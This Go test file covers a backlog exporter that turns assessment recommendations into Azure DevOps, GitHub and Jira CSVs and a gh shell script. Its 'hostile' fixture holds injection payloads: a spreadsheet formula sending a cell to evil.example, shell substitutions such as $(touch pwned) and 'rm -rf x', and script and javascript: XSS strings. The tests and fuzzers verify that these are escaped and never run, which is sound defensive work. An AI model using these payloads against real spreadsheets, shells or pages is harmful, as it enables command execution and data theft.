package backlog

import (
	"bytes"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/awaf/awaf"
	"github.com/awaf/awaf/internal/answers"
	"github.com/awaf/awaf/internal/assess"
	"github.com/awaf/awaf/internal/goldenfile"
	"github.com/awaf/awaf/internal/lens"
	"github.com/awaf/awaf/internal/sheetcell"
)

var exampleFile = filepath.Join("..", "..", "examples", "rag-chat", "awaf.yaml")

// exampleResult runs the real pipeline on the example assessment.
func exampleResult(tb testing.TB) *awaf.Result {
	tb.Helper()
	f, err := answers.LoadFile(exampleFile)
	if err != nil {
		tb.Fatal(err)
	}
	l, err := lens.BuiltinByID(f.Lens.ID)
	if err != nil {
		tb.Fatal(err)
	}
	if err := f.Check(l); err != nil {
		tb.Fatal(err)
	}
	r, err := assess.Evaluate(l, f.Assessment)
	if err != nil {
		tb.Fatal(err)
	}
	if len(r.Plan) < 10 {
		tb.Fatalf("the example should have a real plan, got %d recommendations", len(r.Plan))
	}
	return r
}

func mustWrite(tb testing.TB, t Target, items []Item, o Options) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, t, items, o); err != nil {
		tb.Fatalf("write %s: %v", t, err)
	}
	return buf.Bytes()
}

func TestGoldenExample(t *testing.T) {
	items := Select(exampleResult(t), Filter{})
	for _, target := range Targets() {
		t.Run(string(target), func(t *testing.T) {
			goldenfile.Check(t, filepath.Join("testdata", "rag-chat."+string(target)+target.Ext()), mustWrite(t, target, items, Options{}))
		})
	}
}

func parseCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	recs, err := r.ReadAll() // also checks every row has the header's field count
	if err != nil {
		t.Fatalf("parse back: %v", err)
	}
	if len(recs) == 0 {
		t.Fatal("no header")
	}
	return recs
}

// TestParseBack reads each CSV target back with encoding/csv and checks the columns
// each tracker needs and the values in them.
func TestParseBack(t *testing.T) {
	r := exampleResult(t)
	items := Select(r, Filter{})
	tests := []struct {
		target Target
		opts   Options
		header []string
		check  func(t *testing.T, it Item, row map[string]string, full []string)
	}{
		{
			target: ADO,
			header: []string{"Work Item Type", "Title", "Description", "Priority", "Tags"},
			check: func(t *testing.T, it Item, row map[string]string, _ []string) {
				if row["Work Item Type"] != "Task" {
					t.Errorf("type %q", row["Work Item Type"])
				}
				p, err := strconv.Atoi(row["Priority"])
				if err != nil || p < 1 || p > 4 {
					t.Errorf("priority %q, want 1-4", row["Priority"])
				}
				if !strings.HasPrefix(row["Description"], "<p><b>Why this rank:</b>") || !strings.Contains(row["Description"], "awaf:"+it.Question+"/"+it.Choice) {
					t.Errorf("description %.80q", row["Description"])
				}
				tags := strings.Split(row["Tags"], "; ")
				if tags[0] != "awaf" || !slices.Contains(tags, "horizon:"+string(it.Horizon)) || !slices.Contains(tags, "risk:"+string(it.Risk)) {
					t.Errorf("tags %q", row["Tags"])
				}
			},
		},
		{
			target: ADO,
			opts:   Options{WorkItemType: "Issue", AreaPath: `Contoso\AI`, IterationPath: `Contoso\Sprint 1`},
			header: []string{"Work Item Type", "Title", "Description", "Priority", "Tags", "Area Path", "Iteration Path"},
			check: func(t *testing.T, it Item, row map[string]string, _ []string) {
				if row["Work Item Type"] != "Issue" || row["Area Path"] != `Contoso\AI` || row["Iteration Path"] != `Contoso\Sprint 1` {
					t.Errorf("options not applied: %v", row)
				}
			},
		},
		{
			target: GitHub,
			opts:   Options{Milestone: "AI review Q3"},
			header: []string{"title", "body", "labels", "milestone", "assignees", "external_id", "priority"},
			check: func(t *testing.T, it Item, row map[string]string, _ []string) {
				if row["milestone"] != "AI review Q3" || row["external_id"] != it.ExternalID() {
					t.Errorf("row %v", row)
				}
				if !strings.Contains(row["body"], "### What to do") || !strings.HasPrefix(row["body"], "**Why this rank:**") {
					t.Errorf("body %.100q", row["body"])
				}
				if got := strings.Split(row["labels"], ","); !slices.Equal(got, Labels(it)) {
					t.Errorf("labels %q, want %q", got, Labels(it))
				}
			},
		},
		{
			target: Jira,
			header: []string{"Summary", "Issue Type", "Priority", "Description", "Assignee", "External ID", "Labels", "Labels", "Labels", "Labels", "Labels", "Labels", "Labels", "Labels"},
			check: func(t *testing.T, it Item, row map[string]string, full []string) {
				if !slices.Contains([]string{"Highest", "High", "Medium", "Low", "Lowest"}, row["Priority"]) {
					t.Errorf("priority %q", row["Priority"])
				}
				var labels []string
				for _, c := range full[6:] {
					if c != "" {
						labels = append(labels, c)
					}
				}
				if !slices.Equal(labels, Labels(it)) {
					t.Errorf("labels %q, want %q", labels, Labels(it))
				}
				for _, l := range labels {
					if strings.ContainsAny(l, " \t\n") {
						t.Errorf("Jira label %q has a space", l)
					}
				}
				if !strings.Contains(row["Description"], "h3. What to do") {
					t.Errorf("description %.100q", row["Description"])
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(string(tt.target)+"/"+tt.opts.WorkItemType, func(t *testing.T) {
			recs := parseCSV(t, mustWrite(t, tt.target, items, tt.opts))
			header := recs[0]
			if tt.target == Jira {
				// One Labels column per label of the item with the most.
				most := 0
				for _, it := range items {
					most = max(most, len(Labels(it)))
				}
				tt.header = tt.header[:6]
				for range most {
					tt.header = append(tt.header, "Labels")
				}
			}
			if !slices.Equal(header, tt.header) {
				t.Fatalf("header %q, want %q", header, tt.header)
			}
			if len(recs)-1 != len(items) {
				t.Fatalf("%d rows, want %d", len(recs)-1, len(items))
			}
			for i, rec := range recs[1:] {
				row := map[string]string{}
				for j, h := range header {
					if _, dup := row[h]; !dup {
						row[h] = rec[j]
					}
				}
				title := row["Title"] + row["title"] + row["Summary"]
				if title != items[i].Title {
					t.Errorf("row %d title %q, want %q (plan order)", i+1, title, items[i].Title)
				}
				tt.check(t, items[i], row, rec)
			}
		})
	}
}

func TestSelect(t *testing.T) {
	r := exampleResult(t)
	count := func(keep func(awaf.Recommendation) bool) int {
		n := 0
		for _, rec := range r.Plan {
			if keep(rec) {
				n++
			}
		}
		return n
	}
	tests := []struct {
		name   string
		filter Filter
		keep   func(awaf.Recommendation) bool
	}{
		{"everything", Filter{}, func(awaf.Recommendation) bool { return true }},
		{"now", Filter{Horizons: []awaf.Horizon{awaf.Now}}, func(r awaf.Recommendation) bool { return r.Horizon == awaf.Now }},
		{"now and next", Filter{Horizons: []awaf.Horizon{awaf.Now, awaf.Next}}, func(r awaf.Recommendation) bool { return r.Horizon != awaf.Later }},
		{"security", Filter{Pillars: []awaf.PillarID{awaf.Security}}, func(r awaf.Recommendation) bool { return slices.Contains(r.Pillars, awaf.Security) }},
		{"min priority 30", Filter{MinPriority: 30}, func(r awaf.Recommendation) bool { return r.Priority >= 30 }},
		{"cost, next", Filter{Pillars: []awaf.PillarID{awaf.Cost}, Horizons: []awaf.Horizon{awaf.Next}}, func(r awaf.Recommendation) bool {
			return slices.Contains(r.Pillars, awaf.Cost) && r.Horizon == awaf.Next
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Select(r, tt.filter)
			if want := count(tt.keep); len(got) != want || want == 0 {
				t.Fatalf("%d items, want %d (and more than none, or the case proves nothing)", len(got), want)
			}
			for i := 1; i < len(got); i++ {
				if got[i].Rank <= got[i-1].Rank {
					t.Fatalf("items out of plan order at %d", i)
				}
			}
			if got[0].QuestionTitle == "" || got[0].AreaName == "" || len(got[0].PillarNames) == 0 {
				t.Errorf("names missing: %+v", got[0])
			}
		})
	}
}

func TestParseLists(t *testing.T) {
	if hs, err := ParseHorizons(" now, Next "); err != nil || !slices.Equal(hs, []awaf.Horizon{awaf.Now, awaf.Next}) {
		t.Errorf("ParseHorizons = %v, %v", hs, err)
	}
	if _, err := ParseHorizons("now,soon"); err == nil || !strings.Contains(err.Error(), `"soon"`) {
		t.Errorf("bad horizon: %v", err)
	}
	if ps, err := ParsePillars("security,responsible-ai"); err != nil || len(ps) != 2 {
		t.Errorf("ParsePillars = %v, %v", ps, err)
	}
	if _, err := ParsePillars("safety"); err == nil {
		t.Error("unknown pillar accepted")
	}
	for _, s := range []string{"ado", "github", "github-sh", "jira", "Azure-DevOps"} {
		if _, err := ParseTarget(s); err != nil {
			t.Errorf("ParseTarget(%q): %v", s, err)
		}
	}
	if _, err := ParseTarget("trello"); awaf.ErrorCode(err) != awaf.EINVALID {
		t.Errorf("ParseTarget(trello) = %v", err)
	}
}

func TestPriorityMaps(t *testing.T) {
	tests := []struct {
		score float64
		ado   int
		jira  string
	}{
		{100, 1, "Highest"}, {50, 1, "Highest"}, {49.9, 2, "High"}, {40, 2, "High"},
		{39.9, 3, "Medium"}, {30, 3, "Medium"}, {29.9, 3, "Low"}, {20, 3, "Low"}, {19.9, 4, "Lowest"}, {0, 4, "Lowest"},
	}
	for _, tt := range tests {
		if got := ADOPriority(tt.score); got != tt.ado {
			t.Errorf("ADOPriority(%v) = %d, want %d", tt.score, got, tt.ado)
		}
		if got := JiraPriority(tt.score); got != tt.jira {
			t.Errorf("JiraPriority(%v) = %s, want %s", tt.score, got, tt.jira)
		}
	}
}

// hostile is an item whose every text field tries to break out of its format.
func hostile() Item {
	title := `=HYPERLINK("http://evil.example/?x="&A1,"click") it's "$(touch pwned)" ` + "`touch pwned2` $HOME \\ ; rm -rf x\nsecond line"
	return Item{
		Recommendation: awaf.Recommendation{
			Rank: 1, Question: "q1", Choice: "c1", Title: title, Area: "a",
			Pillars: []awaf.PillarID{awaf.Security}, Risk: awaf.RiskHigh, Effort: awaf.EffortLow,
			Priority: 55, Horizon: awaf.Now,
			Why: "-1+1 <script>alert(1)</script>",
			Guidance: awaf.Guidance{
				What:   "@SUM(1) {code}x{code} [link|javascript:alert(1)] | table | !image.png!",
				Why:    "'; touch pwned3; echo '\nline two with $(id) and `id`",
				Verify: "<img src=x onerror=alert(1)> & done",
			},
			Links: []awaf.Link{{Title: "bad", URL: "javascript:alert(1)"}, {Title: "good <b>", URL: "https://learn.microsoft.com/azure/?a=1&b=2"}},
		},
		QuestionTitle: "Q <i>title</i>",
		AreaName:      "Area",
		PillarNames:   []string{"Security"},
		Owner:         "evil, owner; x",
	}
}

func TestHostileCSV(t *testing.T) {
	it := hostile()
	for _, target := range []Target{ADO, GitHub, Jira} {
		t.Run(string(target), func(t *testing.T) {
			recs := parseCSV(t, mustWrite(t, target, []Item{it}, Options{}))
			for _, row := range recs[1:] {
				for i, c := range row {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("column %q starts with %q: a spreadsheet would run it", recs[0][i], c[:1])
					}
				}
			}
			all := strings.Join(recs[1], "\x00")
			switch target {
			case ADO:
				desc := recs[1][2]
				for _, bad := range []string{"<script", "<img", `href="javascript`, "<i>", "good <b>"} {
					if strings.Contains(desc, bad) {
						t.Errorf("ADO description holds %q unescaped: %s", bad, desc)
					}
				}
				if !strings.Contains(desc, "&lt;script&gt;") || !strings.Contains(desc, `<a href="https://learn.microsoft.com/azure/?a=1&amp;b=2">good &lt;b&gt;</a>`) {
					t.Errorf("ADO description lost text or the good link: %s", desc)
				}
				if recs[1][1] != "'"+title(it) {
					t.Errorf("title %q", recs[1][1])
				}
			case Jira:
				desc := recs[1][3]
				for _, bad := range []string{"{code}", "[link|javascript", " !image.png!", " | table"} {
					if strings.Contains(desc, bad) {
						t.Errorf("Jira description holds %q as markup: %s", bad, desc)
					}
				}
				if !strings.Contains(desc, "[good <b>|https://learn.microsoft.com/azure/?a=1&b=2]") {
					t.Errorf("Jira description lost the good link: %s", desc)
				}
			case GitHub:
				if strings.Contains(all, "](javascript:") {
					t.Error("GitHub body links to javascript:")
				}
				if strings.Contains(recs[1][4], ",") {
					t.Errorf("assignee cell %q would split into two", recs[1][4])
				}
			}
		})
	}
}

// fakeGH is a stand-in for the GitHub CLI: it records each call's arguments, NUL
// separated, and answers "issue list" with the count in $FAKE_EXISTING.
const fakeGH = `#!/bin/sh
case "$1 $2" in
"issue list") echo "${FAKE_EXISTING:-0}"; exit 0 ;;
esac
printf '%s\0' "$@" >> "$FAKE_LOG"
printf '\n' >> "$FAKE_LOG"
`

// runScript runs a generated script with the fake gh first on PATH, in a scratch
// directory, and returns the recorded calls.
func runScript(t *testing.T, script []byte, existing string) (calls [][]string, dir string) {
	t.Helper()
	return runScriptWith(t, "sh", script, existing)
}

func runScriptWith(t *testing.T, shell string, script []byte, existing string) (calls [][]string, dir string) {
	t.Helper()
	sh, err := exec.LookPath(shell)
	if err != nil {
		t.Skipf("no %s", shell)
	}
	dir = t.TempDir()
	bin := filepath.Join(dir, "bin")
	if err := os.Mkdir(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(bin, "gh"), []byte(fakeGH), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "backlog.sh"), script, 0o755); err != nil {
		t.Fatal(err)
	}
	log := filepath.Join(dir, "calls")
	cmd := exec.Command(sh, "backlog.sh")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "PATH="+bin+string(os.PathListSeparator)+os.Getenv("PATH"), "FAKE_LOG="+log, "FAKE_EXISTING="+existing, "HOME="+dir)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("script failed: %v\n%s", err, out)
	}
	data, err := os.ReadFile(log)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(data), "\x00\n") {
		if line != "" {
			calls = append(calls, strings.Split(line, "\x00"))
		}
	}
	return calls, dir
}

// TestScriptQuoting runs the script under each POSIX shell at hand (dash is Debian's
// sh, bash is what most people type) and checks what gh receives, byte for byte.
func TestScriptQuoting(t *testing.T) {
	for _, shell := range []string{"sh", "dash", "bash"} {
		t.Run(shell, func(t *testing.T) { testScriptQuoting(t, shell) })
	}
}

func testScriptQuoting(t *testing.T, shell string) {
	it := hostile()
	plain := Item{Recommendation: awaf.Recommendation{Rank: 2, Question: "q2", Choice: "c2", Title: "Use managed identities", Risk: awaf.RiskMedium, Horizon: awaf.Next, Priority: 30}}
	script := mustWrite(t, GitHubScript, []Item{it, plain}, Options{Milestone: "M1 'beta'", Repo: "contoso/claims-chat"})
	calls, dir := runScriptWith(t, shell, script, "0")
	var creates [][]string
	for _, c := range calls {
		if len(c) > 1 && c[0] == "issue" && c[1] == "create" {
			creates = append(creates, c)
		}
	}
	if len(creates) != 2 {
		t.Fatalf("%d issue create calls, want 2: %q", len(creates), calls)
	}
	want := []string{"issue", "create",
		"--title=" + title(it),
		"--label=" + strings.Join(Labels(it), ","),
		"--milestone=M1 'beta'",
		"--assignee=" + label(it.Owner),
		"--body=" + markdownBody(it),
	}
	if !slices.Equal(creates[0], want) {
		t.Errorf("gh got\n%q\nwant\n%q", creates[0], want)
	}
	for _, f := range []string{"pwned", "pwned2", "pwned3"} {
		if _, err := os.Stat(filepath.Join(dir, f)); err == nil {
			t.Errorf("the script ran a command from the text: %s exists", f)
		}
	}
	labels := 0
	for _, c := range calls {
		if len(c) > 1 && c[0] == "label" && c[1] == "create" {
			labels++
		}
	}
	if labels == 0 {
		t.Error("no labels created; gh issue create refuses unknown labels")
	}
	if !bytes.Contains(script, []byte("GH_REPO=${GH_REPO:-'contoso/claims-chat'}")) {
		t.Error("repository not set")
	}

	// A second run after the issues exist creates nothing.
	calls, _ = runScriptWith(t, shell, script, "1")
	for _, c := range calls {
		if len(c) > 1 && c[0] == "issue" && c[1] == "create" {
			t.Fatalf("re-run created an issue: %q", c)
		}
	}
}

func TestScriptExample(t *testing.T) {
	items := Select(exampleResult(t), Filter{Horizons: []awaf.Horizon{awaf.Now}})
	calls, _ := runScript(t, mustWrite(t, GitHubScript, items, Options{}), "0")
	n := 0
	for _, c := range calls {
		if len(c) > 1 && c[0] == "issue" && c[1] == "create" {
			if c[2] != "--title="+items[n].Title {
				t.Errorf("issue %d: %q, want title %q", n, c[2], items[n].Title)
			}
			n++
		}
	}
	if n != len(items) || n == 0 {
		t.Fatalf("%d issues created, want %d", n, len(items))
	}
}

func TestADOLimit(t *testing.T) {
	items := make([]Item, adoMaxItems+1)
	err := Write(&bytes.Buffer{}, ADO, items, Options{})
	if awaf.ErrorCode(err) != awaf.EINVALID || !strings.Contains(err.Error(), "1000") {
		t.Fatalf("err = %v", err)
	}
}

// FuzzShQuote checks that any text comes out of the shell exactly as it went in.
func FuzzShQuote(f *testing.F) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		f.Skip("no sh")
	}
	for _, s := range []string{"", "plain", "it's", "'", "''", `"$(id)"`, "`id`", "$HOME", "a\nb", "\\'", "'\\''", "\t\r\n", "é ü 漢字"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out, err := exec.Command(sh, "-c", "printf '%s' "+shQuote(s)).Output()
		if err != nil {
			t.Fatalf("sh: %v", err)
		}
		if want := strings.ReplaceAll(s, "\x00", ""); string(out) != want {
			t.Fatalf("got %q, want %q", out, want)
		}
	})
}

// FuzzCell checks that a neutralized cell survives a CSV round trip and never starts
// like a formula (a plain number may start with a sign).
func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1", "+1", "-1", "@a", "\t", "\r\n", "a,b", `"q"`, ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		if err := writeCSV(&buf, []string{"h", "x"}, [][]string{{s, "x"}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got := recs[1][0]
		// encoding/csv turns \r\n into \n inside quoted fields; compare on that.
		if want := strings.ReplaceAll(sheetcell.Text(s), "\r\n", "\n"); got != want {
			t.Fatalf("round trip %q -> %q, want %q", s, got, want)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !sheetcell.Number(got) {
			t.Fatalf("cell %q starts like a formula", got)
		}
	})
}

func TestLongTitle(t *testing.T) {
	it := Item{Recommendation: awaf.Recommendation{Title: strings.Repeat("é", 300)}}
	if got := []rune(title(it)); len(got) != maxTitle || got[maxTitle-1] != '…' {
		t.Errorf("title of %d runes ending %q", len(got), got[len(got)-1])
	}
	it.Title = "short\ntitle"
	if got := title(it); got != "short title" {
		t.Errorf("title %q", got)
	}
}

func BenchmarkWrite(b *testing.B) {
	items := Select(exampleResult(b), Filter{})
	for _, target := range Targets() {
		b.Run(string(target), func(b *testing.B) {
			var buf bytes.Buffer
			for b.Loop() {
				buf.Reset()
				if err := Write(&buf, target, items, Options{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
